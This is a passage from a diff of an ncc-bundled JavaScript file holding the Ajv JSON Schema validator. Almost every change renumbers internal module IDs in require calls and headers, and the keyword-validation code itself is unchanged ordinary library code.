 Object.defineProperty(exports, "CodeGen", ({ enumerable: true, get: function () { return codegen_1.CodeGen; } }));
-const validation_error_1 = __nccwpck_require__(525);
-const ref_error_1 = __nccwpck_require__(346);
-const rules_1 = __nccwpck_require__(7977);
-const compile_1 = __nccwpck_require__(7150);
-const codegen_2 = __nccwpck_require__(6300);
-const resolve_1 = __nccwpck_require__(426);
-const dataType_1 = __nccwpck_require__(6701);
-const util_1 = __nccwpck_require__(5248);
-const $dataRefSchema = __nccwpck_require__(6590);
-const uri_1 = __nccwpck_require__(349);
+const validation_error_1 = __nccwpck_require__(5402);
+const ref_error_1 = __nccwpck_require__(3162);
+const rules_1 = __nccwpck_require__(7353);
+const compile_1 = __nccwpck_require__(2718);
+const codegen_2 = __nccwpck_require__(1436);
+const resolve_1 = __nccwpck_require__(4090);
+const dataType_1 = __nccwpck_require__(6685);
+const util_1 = __nccwpck_require__(4464);
+const $dataRefSchema = __nccwpck_require__(3837);
+const uri_1 = __nccwpck_require__(6285);
 const defaultRegExp = (str, flags) => new RegExp(str, flags);
 defaultRegExp.code = "new RegExp";
 const META_IGNORE_OPTIONS = ["removeAdditional", "useDefaults", "coerceTypes"];
@@ -3968,19 +4203,19 @@ function schemaOrData(schema) {
 
 /***/ }),
 
-/***/ 5131:
+/***/ 3995:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
-const metaSchema = __nccwpck_require__(5065);
-const applicator = __nccwpck_require__(8433);
-const unevaluated = __nccwpck_require__(1160);
-const content = __nccwpck_require__(9217);
-const core = __nccwpck_require__(5695);
-const format = __nccwpck_require__(9171);
-const metadata = __nccwpck_require__(528);
-const validation = __nccwpck_require__(6123);
+const metaSchema = __nccwpck_require__(1678);
+const applicator = __nccwpck_require__(7216);
+const unevaluated = __nccwpck_require__(9547);
+const content = __nccwpck_require__(8226);
+const core = __nccwpck_require__(518);
+const format = __nccwpck_require__(4588);
+const metadata = __nccwpck_require__(5707);
+const validation = __nccwpck_require__(7082);
 const META_SUPPORT_DATA = ["/properties"];
 function addMetaSchema2020($data) {
     ;
@@ -4004,20 +4239,20 @@ exports["default"] = addMetaSchema2020;
 
 /***/ }),
 
-/***/ 3335:
+/***/ 4951:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
 // https://github.com/ajv-validator/ajv/issues/889
-const equal = __nccwpck_require__(2550);
+const equal = __nccwpck_require__(3430);
 equal.code = 'require("ajv/dist/runtime/equal").default';
 exports["default"] = equal;
 //# sourceMappingURL=equal.js.map
 
 /***/ }),
 
-/***/ 7542:
+/***/ 6214:
 /***/ ((__unused_webpack_module, exports) => {
 
 
@@ -4047,19 +4282,19 @@ ucs2length.code = 'require("ajv/dist/runtime/ucs2length").default';
 
 /***/ }),
 
-/***/ 349:
+/***/ 6285:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
-const uri = __nccwpck_require__(3816);
+const uri = __nccwpck_require__(4352);
 uri.code = 'require("ajv/dist/runtime/uri").default';
 exports["default"] = uri;
 //# sourceMappingURL=uri.js.map
 
 /***/ }),
 
-/***/ 525:
+/***/ 5402:
 /***/ ((__unused_webpack_module, exports) => {
 
 
@@ -4076,14 +4311,14 @@ exports["default"] = ValidationError;
 
 /***/ }),
 
-/***/ 7928:
+/***/ 3448:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
 exports.validateAdditionalItems = void 0;
-const codegen_1 = __nccwpck_require__(6300);
-const util_1 = __nccwpck_require__(5248);
+const codegen_1 = __nccwpck_require__(1436);
+const util_1 = __nccwpck_require__(4464);
 const error = {
     message: ({ params: { len } }) => (0, codegen_1.str) `must NOT have more than ${len} items`,
     params: ({ params: { len } }) => (0, codegen_1._) `{limit: ${len}}`,
@@ -4131,15 +4366,15 @@ exports["default"] = def;
 
 /***/ }),
 
-/***/ 8671:
+/***/ 2431:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
-const code_1 = __nccwpck_require__(7924);
-const codegen_1 = __nccwpck_require__(6300);
-const names_1 = __nccwpck_require__(8054);
-const util_1 = __nccwpck_require__(5248);
+const code_1 = __nccwpck_require__(8484);
+const codegen_1 = __nccwpck_require__(1436);
+const names_1 = __nccwpck_require__(630);
+const util_1 = __nccwpck_require__(4464);
 const error = {
     message: "must NOT have additional properties",
     params: ({ params }) => (0, codegen_1._) `{additionalProperty: ${params.additionalProperty}}`,
@@ -4243,12 +4478,12 @@ exports["default"] = def;
 
 /***/ }),
 
-/***/ 6341:
+/***/ 9205:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
-const util_1 = __nccwpck_require__(5248);
+const util_1 = __nccwpck_require__(4464);
 const def = {
     keyword: "allOf",
     schemaType: "array",
@@ -4272,12 +4507,12 @@ exports["default"] = def;
 
 /***/ }),
 
-/***/ 8484:
+/***/ 9380:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
-const code_1 = __nccwpck_require__(7924);
+const code_1 = __nccwpck_require__(8484);
 const def = {
     keyword: "anyOf",
     schemaType: "array",
@@ -4290,13 +4525,13 @@ exports["default"] = def;
 
 /***/ }),
 
-/***/ 1926:
+/***/ 6182:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
-const codegen_1 = __nccwpck_require__(6300);
-const util_1 = __nccwpck_require__(5248);
+const codegen_1 = __nccwpck_require__(1436);
+const util_1 = __nccwpck_require__(4464);
 const error = {
     message: ({ params: { min, max } }) => max === undefined
         ? (0, codegen_1.str) `must contain at least ${min} valid item(s)`
@@ -4391,15 +4626,15 @@ exports["default"] = def;
 
 /***/ }),
 
-/***/ 5474:
+/***/ 5826:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
 exports.validateSchemaDeps = exports.validatePropertyDeps = exports.error = void 0;
-const codegen_1 = __nccwpck_require__(6300);
-const util_1 = __nccwpck_require__(5248);
-const code_1 = __nccwpck_require__(7924);
+const codegen_1 = __nccwpck_require__(1436);
+const util_1 = __nccwpck_require__(4464);
+const code_1 = __nccwpck_require__(8484);
 exports.error = {
     message: ({ params: { property, depsCount, deps } }) => {
         const property_ies = depsCount === 1 ? "property" : "properties";
@@ -4482,12 +4717,12 @@ exports["default"] = def;
 
 /***/ }),
 
-/***/ 6282:
+/***/ 3818:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
-const dependencies_1 = __nccwpck_require__(5474);
+const dependencies_1 = __nccwpck_require__(5826);
 const def = {
     keyword: "dependentSchemas",
     type: "object",
@@ -4499,13 +4734,13 @@ exports["default"] = def;
 
 /***/ }),
 
-/***/ 9352:
+/***/ 8584:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
-const codegen_1 = __nccwpck_require__(6300);
-const util_1 = __nccwpck_require__(5248);
+const codegen_1 = __nccwpck_require__(1436);
+const util_1 = __nccwpck_require__(4464);
 const error = {
     message: ({ params }) => (0, codegen_1.str) `must match "${params.ifClause}" schema`,
     params: ({ params }) => (0, codegen_1._) `{failingKeyword: ${params.ifClause}}`,
@@ -4571,27 +4806,27 @@ exports["default"] = def;
 
 /***/ }),
 
-/***/ 9335:
+/***/ 8775:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
-const additionalItems_1 = __nccwpck_require__(7928);
-const prefixItems_1 = __nccwpck_require__(627);
-const items_1 = __nccwpck_require__(7327);
-const items2020_1 = __nccwpck_require__(5231);
-const contains_1 = __nccwpck_require__(1926);
-const dependencies_1 = __nccwpck_require__(5474);
-const propertyNames_1 = __nccwpck_require__(6860);
-const additionalProperties_1 = __nccwpck_require__(8671);
-const properties_1 = __nccwpck_require__(4842);
-const patternProperties_1 = __nccwpck_require__(3240);
-const not_1 = __nccwpck_require__(9086);
-const anyOf_1 = __nccwpck_require__(8484);
-const oneOf_1 = __nccwpck_require__(8218);
-const allOf_1 = __nccwpck_require__(6341);
-const if_1 = __nccwpck_require__(9352);
-const thenElse_1 = __nccwpck_require__(7549);
+const additionalItems_1 = __nccwpck_require__(3448);
+const prefixItems_1 = __nccwpck_require__(6467);
+const items_1 = __nccwpck_require__(5791);
+const items2020_1 = __nccwpck_require__(2959);
+const contains_1 = __nccwpck_require__(6182);
+const dependencies_1 = __nccwpck_require__(5826);
+const propertyNames_1 = __nccwpck_require__(1372);
+const additionalProperties_1 = __nccwpck_require__(2431);
+const properties_1 = __nccwpck_require__(8778);
+const patternProperties_1 = __nccwpck_require__(664);
+const not_1 = __nccwpck_require__(8350);
+const anyOf_1 = __nccwpck_require__(9380);
+const oneOf_1 = __nccwpck_require__(2490);
+const allOf_1 = __nccwpck_require__(9205);
+const if_1 = __nccwpck_require__(8584);
+const thenElse_1 = __nccwpck_require__(9210);
 function getApplicator(draft2020 = false) {
     const applicator = [
         // any
@@ -4621,15 +4856,15 @@ exports["default"] = getApplicator;
 
 /***/ }),
 
-/***/ 7327:
+/***/ 5791:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
 exports.validateTuple = void 0;
-const codegen_1 = __nccwpck_require__(6300);
-const util_1 = __nccwpck_require__(5248);
-const code_1 = __nccwpck_require__(7924);
+const codegen_1 = __nccwpck_require__(1436);
+const util_1 = __nccwpck_require__(4464);
+const code_1 = __nccwpck_require__(8484);
 const def = {
     keyword: "items",
     type: "array",
@@ -4679,15 +4914,15 @@ exports["default"] = def;
 
 /***/ }),
 
-/***/ 5231:
+/***/ 2959:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
-const codegen_1 = __nccwpck_require__(6300);
-const util_1 = __nccwpck_require__(5248);
-const code_1 = __nccwpck_require__(7924);
-const additionalItems_1 = __nccwpck_require__(7928);
+const codegen_1 = __nccwpck_require__(1436);
+const util_1 = __nccwpck_require__(4464);
+const code_1 = __nccwpck_require__(8484);
+const additionalItems_1 = __nccwpck_require__(3448);
 const error = {
     message: ({ params: { len } }) => (0, codegen_1.str) `must NOT have more than ${len} items`,
     params: ({ params: { len } }) => (0, codegen_1._) `{limit: ${len}}`,
@@ -4715,12 +4950,12 @@ exports["default"] = def;
 
 /***/ }),
 
-/***/ 9086:
+/***/ 8350:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
-const util_1 = __nccwpck_require__(5248);
+const util_1 = __nccwpck_require__(4464);
 const def = {
     keyword: "not",
     schemaType: ["object", "boolean"],
@@ -4747,13 +4982,13 @@ exports["default"] = def;
 
 /***/ }),
 
-/***/ 8218:
+/***/ 2490:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
-const codegen_1 = __nccwpck_require__(6300);
-const util_1 = __nccwpck_require__(5248);
+const codegen_1 = __nccwpck_require__(1436);
+const util_1 = __nccwpck_require__(4464);
 const error = {
     message: "must match exactly one schema in oneOf",
     params: ({ params }) => (0, codegen_1._) `{passingSchemas: ${params.passing}}`,
@@ -4813,15 +5048,15 @@ exports["default"] = def;
 
 /***/ }),
 
-/***/ 3240:
+/***/ 664:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
-const code_1 = __nccwpck_require__(7924);
-const codegen_1 = __nccwpck_require__(6300);
-const util_1 = __nccwpck_require__(5248);
-const util_2 = __nccwpck_require__(5248);
+const code_1 = __nccwpck_require__(8484);
+const codegen_1 = __nccwpck_require__(1436);
+const util_1 = __nccwpck_require__(4464);
+const util_2 = __nccwpck_require__(4464);
 const def = {
     keyword: "patternProperties",
     type: "object",
@@ -4894,12 +5129,12 @@ exports["default"] = def;
 
 /***/ }),
 
-/***/ 627:
+/***/ 6467:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
-const items_1 = __nccwpck_require__(7327);
+const items_1 = __nccwpck_require__(5791);
 const def = {
     keyword: "prefixItems",
     type: "array",
@@ -4912,15 +5147,15 @@ exports["default"] = def;
 
 /***/ }),
 
-/***/ 4842:
+/***/ 8778:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
-const validate_1 = __nccwpck_require__(6537);
-const code_1 = __nccwpck_require__(7924);
-const util_1 = __nccwpck_require__(5248);
-const additionalProperties_1 = __nccwpck_require__(8671);
+const validate_1 = __nccwpck_require__(7881);
+const code_1 = __nccwpck_require__(8484);
+const util_1 = __nccwpck_require__(4464);
+const additionalProperties_1 = __nccwpck_require__(2431);
 const def = {
     keyword: "properties",
     type: "object",
@@ -4972,13 +5207,13 @@ exports["default"] = def;
 
 /***/ }),
 
-/***/ 6860:
+/***/ 1372:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
-const codegen_1 = __nccwpck_require__(6300);
-const util_1 = __nccwpck_require__(5248);
+const codegen_1 = __nccwpck_require__(1436);
+const util_1 = __nccwpck_require__(4464);
 const error = {
     message: "property name must be valid",
     params: ({ params }) => (0, codegen_1._) `{propertyName: ${params.propertyName}}`,
@@ -5016,12 +5251,12 @@ exports["default"] = def;
 
 /***/ }),
 
-/***/ 7549:
+/***/ 9210:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
-const util_1 = __nccwpck_require__(5248);
+const util_1 = __nccwpck_require__(4464);
 const def = {
     keyword: ["then", "else"],
     schemaType: ["object", "boolean"],
@@ -5035,16 +5270,16 @@ exports["default"] = def;
 
 /***/ }),
 
-/***/ 7924:
+/***/ 8484:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
 exports.validateUnion = exports.validateArray = exports.usePattern = exports.callValidateCode = exports.schemaProperties = exports.allSchemaProperties = exports.noPropertyInData = exports.propertyInData = exports.isOwnProperty = exports.hasPropFunc = exports.reportMissingProp = exports.checkMissingProp = exports.checkReportMissingProp = void 0;
-const codegen_1 = __nccwpck_require__(6300);
-const util_1 = __nccwpck_require__(5248);
-const names_1 = __nccwpck_require__(8054);
-const util_2 = __nccwpck_require__(5248);
+const codegen_1 = __nccwpck_require__(1436);
+const util_1 = __nccwpck_require__(4464);
+const names_1 = __nccwpck_require__(630);
+const util_2 = __nccwpck_require__(4464);
 function checkReportMissingProp(cxt, prop) {
     const { gen, data, it } = cxt;
     gen.if(noPropertyInData(gen, data, prop, it.opts.ownProperties), () => {
@@ -5172,7 +5407,7 @@ exports.validateUnion = validateUnion;
 
 /***/ }),
 
-/***/ 7712:
+/***/ 9872:
 /***/ ((__unused_webpack_module, exports) => {
 
 
@@ -5188,13 +5423,13 @@ exports["default"] = def;
 
 /***/ }),
 
-/***/ 917:
+/***/ 7397:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
-const id_1 = __nccwpck_require__(7712);
-const ref_1 = __nccwpck_require__(3332);
+const id_1 = __nccwpck_require__(9872);
+const ref_1 = __nccwpck_require__(2996);
 const core = [
     "$schema",
     "$id",
@@ -5210,18 +5445,18 @@ exports["default"] = core;
 
 /***/ }),
 
-/***/ 3332:
+/***/ 2996:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
 exports.callRef = exports.getValidate = void 0;
-const ref_error_1 = __nccwpck_require__(346);
-const code_1 = __nccwpck_require__(7924);
-const codegen_1 = __nccwpck_require__(6300);
-const names_1 = __nccwpck_require__(8054);
-const compile_1 = __nccwpck_require__(7150);
-const util_1 = __nccwpck_require__(5248);
+const ref_error_1 = __nccwpck_require__(3162);
+const code_1 = __nccwpck_require__(8484);
+const codegen_1 = __nccwpck_require__(1436);
+const names_1 = __nccwpck_require__(630);
+const compile_1 = __nccwpck_require__(2718);
+const util_1 = __nccwpck_require__(4464);
 const def = {
     keyword: "$ref",
     schemaType: "string",
@@ -5338,16 +5573,16 @@ exports["default"] = def;
 
 /***/ }),
 
-/***/ 7446:
+/***/ 8886:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
-const codegen_1 = __nccwpck_require__(6300);
-const types_1 = __nccwpck_require__(6475);
-const compile_1 = __nccwpck_require__(7150);
-const ref_error_1 = __nccwpck_require__(346);
-const util_1 = __nccwpck_require__(5248);
+const codegen_1 = __nccwpck_require__(1436);
+const types_1 = __nccwpck_require__(7115);
+const compile_1 = __nccwpck_require__(2718);
+const ref_error_1 = __nccwpck_require__(3162);
+const util_1 = __nccwpck_require__(4464);
 const error = {
     message: ({ params: { discrError, tagName } }) => discrError === types_1.DiscrError.Tag
         ? `tag "${tagName}" must be string`
@@ -5448,7 +5683,7 @@ exports["default"] = def;
 
 /***/ }),
 
-/***/ 6475:
+/***/ 7115:
 /***/ ((__unused_webpack_module, exports) => {
 
 
@@ -5463,19 +5698,19 @@ var DiscrError;
 
 /***/ }),
 
-/***/ 9210:
+/***/ 4298:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
-const core_1 = __nccwpck_require__(917);
-const validation_1 = __nccwpck_require__(5497);
-const applicator_1 = __nccwpck_require__(9335);
-const dynamic_1 = __nccwpck_require__(4899);
-const next_1 = __nccwpck_require__(2375);
-const unevaluated_1 = __nccwpck_require__(26);
-const format_1 = __nccwpck_require__(1177);
-const metadata_1 = __nccwpck_require__(3436);
+const core_1 = __nccwpck_require__(7397);
+const validation_1 = __nccwpck_require__(5481);
+const applicator_1 = __nccwpck_require__(8775);
+const dynamic_1 = __nccwpck_require__(9923);
+const next_1 = __nccwpck_require__(7844);
+const unevaluated_1 = __nccwpck_require__(2010);
+const format_1 = __nccwpck_require__(2601);
+const metadata_1 = __nccwpck_require__(6620);
 const draft2020Vocabularies = [
     dynamic_1.default,
     core_1.default,
@@ -5492,16 +5727,16 @@ exports["default"] = draft2020Vocabularies;
 
 /***/ }),
 
-/***/ 9381:
+/***/ 9941:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
-const core_1 = __nccwpck_require__(917);
-const validation_1 = __nccwpck_require__(5497);
-const applicator_1 = __nccwpck_require__(9335);
-const format_1 = __nccwpck_require__(1177);
-const metadata_1 = __nccwpck_require__(3436);
+const core_1 = __nccwpck_require__(7397);
+const validation_1 = __nccwpck_require__(5481);
+const applicator_1 = __nccwpck_require__(8775);
+const format_1 = __nccwpck_require__(2601);
+const metadata_1 = __nccwpck_require__(6620);
 const draft7Vocabularies = [
     core_1.default,
     validation_1.default,
@@ -5515,16 +5750,16 @@ exports["default"] = draft7Vocabularies;
 
 /***/ }),
 
-/***/ 8575:
+/***/ 8639:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
 exports.dynamicAnchor = void 0;
-const codegen_1 = __nccwpck_require__(6300);
-const names_1 = __nccwpck_require__(8054);
-const compile_1 = __nccwpck_require__(7150);
-const ref_1 = __nccwpck_require__(3332);
+const codegen_1 = __nccwpck_require__(1436);
+const names_1 = __nccwpck_require__(630);
+const compile_1 = __nccwpck_require__(2718);
+const ref_1 = __nccwpck_require__(2996);
 const def = {
     keyword: "$dynamicAnchor",
     schemaType: "string",
@@ -5551,15 +5786,15 @@ exports["default"] = def;
 
 /***/ }),
 
-/***/ 3993:
+/***/ 5065:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
 exports.dynamicRef = void 0;
-const codegen_1 = __nccwpck_require__(6300);
-const names_1 = __nccwpck_require__(8054);
-const ref_1 = __nccwpck_require__(3332);
+const codegen_1 = __nccwpck_require__(1436);
+const names_1 = __nccwpck_require__(630);
+const ref_1 = __nccwpck_require__(2996);
 const def = {
     keyword: "$dynamicRef",
     schemaType: "string",
@@ -5608,28 +5843,28 @@ exports["default"] = def;
 
 /***/ }),
 
-/***/ 4899:
+/***/ 9923:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
-const dynamicAnchor_1 = __nccwpck_require__(8575);
-const dynamicRef_1 = __nccwpck_require__(3993);
-const recursiveAnchor_1 = __nccwpck_require__(8526);
-const recursiveRef_1 = __nccwpck_require__(18);
+const dynamicAnchor_1 = __nccwpck_require__(8639);
+const dynamicRef_1 = __nccwpck_require__(5065);
+const recursiveAnchor_1 = __nccwpck_require__(9982);
+const recursiveRef_1 = __nccwpck_require__(1794);
 const dynamic = [dynamicAnchor_1.default, dynamicRef_1.default, recursiveAnchor_1.default, recursiveRef_1.default];
 exports["default"] = dynamic;
 //# sourceMappingURL=index.js.map
 
 /***/ }),
 
-/***/ 8526:
+/***/ 9982:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
-const dynamicAnchor_1 = __nccwpck_require__(8575);
-const util_1 = __nccwpck_require__(5248);
+const dynamicAnchor_1 = __nccwpck_require__(8639);
+const util_1 = __nccwpck_require__(4464);
 const def = {
     keyword: "$recursiveAnchor",
     schemaType: "boolean",
@@ -5645,12 +5880,12 @@ exports["default"] = def;
 
 /***/ }),
 
-/***/ 18:
+/***/ 1794:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
-const dynamicRef_1 = __nccwpck_require__(3993);
+const dynamicRef_1 = __nccwpck_require__(5065);
 const def = {
     keyword: "$recursiveRef",
     schemaType: "string",
@@ -5661,12 +5896,12 @@ exports["default"] = def;
 
 /***/ }),
 
-/***/ 2178:
+/***/ 6402:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
-const codegen_1 = __nccwpck_require__(6300);
+const codegen_1 = __nccwpck_require__(1436);
 const error = {
     message: ({ schemaCode }) => (0, codegen_1.str) `must match format "${schemaCode}"`,
     params: ({ schemaCode }) => (0, codegen_1._) `{format: ${schemaCode}}`,
@@ -5759,19 +5994,19 @@ exports["default"] = def;
 
 /***/ }),
 
-/***/ 1177:
+/***/ 2601:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
-const format_1 = __nccwpck_require__(2178);
+const format_1 = __nccwpck_require__(6402);
 const format = [format_1.default];
 exports["default"] = format;
 //# sourceMappingURL=index.js.map
 
 /***/ }),
 
-/***/ 3436:
+/***/ 6620:
 /***/ ((__unused_webpack_module, exports) => {
 
 
@@ -5795,40 +6030,40 @@ exports.contentVocabulary = [
 
 /***/ }),
 
-/***/ 2375:
+/***/ 7844:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
-const dependentRequired_1 = __nccwpck_require__(1715);
-const dependentSchemas_1 = __nccwpck_require__(6282);
-const limitContains_1 = __nccwpck_require__(5139);
+const dependentRequired_1 = __nccwpck_require__(3024);
+const dependentSchemas_1 = __nccwpck_require__(3818);
+const limitContains_1 = __nccwpck_require__(3907);
 const next = [dependentRequired_1.default, dependentSchemas_1.default, limitContains_1.default];
 exports["default"] = next;
 //# sourceMappingURL=next.js.map
 
 /***/ }),
 
-/***/ 26:
+/***/ 2010:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
-const unevaluatedProperties_1 = __nccwpck_require__(6919);
-const unevaluatedItems_1 = __nccwpck_require__(4752);
+const unevaluatedProperties_1 = __nccwpck_require__(6855);
+const unevaluatedItems_1 = __nccwpck_require__(4144);
 const unevaluated = [unevaluatedProperties_1.default, unevaluatedItems_1.default];
 exports["default"] = unevaluated;
 //# sourceMappingURL=index.js.map
 
 /***/ }),
 
-/***/ 4752:
+/***/ 4144:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
-const codegen_1 = __nccwpck_require__(6300);
-const util_1 = __nccwpck_require__(5248);
+const codegen_1 = __nccwpck_require__(1436);
+const util_1 = __nccwpck_require__(4464);
 const error = {
     message: ({ params: { len } }) => (0, codegen_1.str) `must NOT have more than ${len} items`,
     params: ({ params: { len } }) => (0, codegen_1._) `{limit: ${len}}`,
@@ -5868,14 +6103,14 @@ exports["default"] = def;
 
 /***/ }),
 
-/***/ 6919:
+/***/ 6855:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
-const codegen_1 = __nccwpck_require__(6300);
-const util_1 = __nccwpck_require__(5248);
-const names_1 = __nccwpck_require__(8054);
+const codegen_1 = __nccwpck_require__(1436);
+const util_1 = __nccwpck_require__(4464);
+const names_1 = __nccwpck_require__(630);
 const error = {
     message: "must NOT have unevaluated properties",
     params: ({ params }) => (0, codegen_1._) `{unevaluatedProperty: ${params.unevaluatedProperty}}`,
@@ -5939,14 +6174,14 @@ exports["default"] = def;
 
 /***/ }),
 
-/***/ 8698:
+/***/ 8026:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
-const codegen_1 = __nccwpck_require__(6300);
-const util_1 = __nccwpck_require__(5248);
-const equal_1 = __nccwpck_require__(3335);
+const codegen_1 = __nccwpck_require__(1436);
+const util_1 = __nccwpck_require__(4464);
+const equal_1 = __nccwpck_require__(4951);
 const error = {
     message: "must be equal to constant",
     params: ({ schemaCode }) => (0, codegen_1._) `{allowedValue: ${schemaCode}}`,
@@ -5970,12 +6205,12 @@ exports["default"] = def;
 
 /***/ }),
 
-/***/ 1715:
+/***/ 3024:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
-const dependencies_1 = __nccwpck_require__(5474);
+const dependencies_1 = __nccwpck_require__(5826);
 const def = {
     keyword: "dependentRequired",
     type: "object",
@@ -5988,14 +6223,14 @@ exports["default"] = def;
 
 /***/ }),
 
-/***/ 4736:
+/***/ 3200:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
-const codegen_1 = __nccwpck_require__(6300);
-const util_1 = __nccwpck_require__(5248);
-const equal_1 = __nccwpck_require__(3335);
+const codegen_1 = __nccwpck_require__(1436);
+const util_1 = __nccwpck_require__(4464);
+const equal_1 = __nccwpck_require__(4951);
 const error = {
     message: "must be equal to one of the allowed values",
     params: ({ schemaCode }) => (0, codegen_1._) `{allowedValues: ${schemaCode}}`,
@@ -6042,21 +6277,21 @@ exports["default"] = def;
 
 /***/ }),
 
-/***/ 5497:
+/***/ 5481:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
-const limitNumber_1 = __nccwpck_require__(2011);
-const multipleOf_1 = __nccwpck_require__(3748);
-const limitLength_1 = __nccwpck_require__(9730);
-const pattern_1 = __nccwpck_require__(8343);
-const limitProperties_1 = __nccwpck_require__(2895);
-const required_1 = __nccwpck_require__(6008);
-const limitItems_1 = __nccwpck_require__(3304);
-const uniqueItems_1 = __nccwpck_require__(1308);
-const const_1 = __nccwpck_require__(8698);
-const enum_1 = __nccwpck_require__(4736);
+const limitNumber_1 = __nccwpck_require__(3723);
+const multipleOf_1 = __nccwpck_require__(8132);
+const limitLength_1 = __nccwpck_require__(6962);
+const pattern_1 = __nccwpck_require__(6023);
+const limitProperties_1 = __nccwpck_require__(895);
+const required_1 = __nccwpck_require__(4504);
+const limitItems_1 = __nccwpck_require__(6296);
+const uniqueItems_1 = __nccwpck_require__(5132);
+const const_1 = __nccwpck_require__(8026);
+const enum_1 = __nccwpck_require__(3200);
 const validation = [
     // number
     limitNumber_1.default,
@@ -6081,12 +6316,12 @@ exports["default"] = validation;
 
 /***/ }),
 
-/***/ 5139:
+/***/ 3907:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
-const util_1 = __nccwpck_require__(5248);
+const util_1 = __nccwpck_require__(4464);
 const def = {
     keyword: ["maxContains", "minContains"],
     type: "array",
@@ -6102,12 +6337,12 @@ exports["default"] = def;
 
 /***/ }),
 
-/***/ 3304:
+/***/ 6296:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
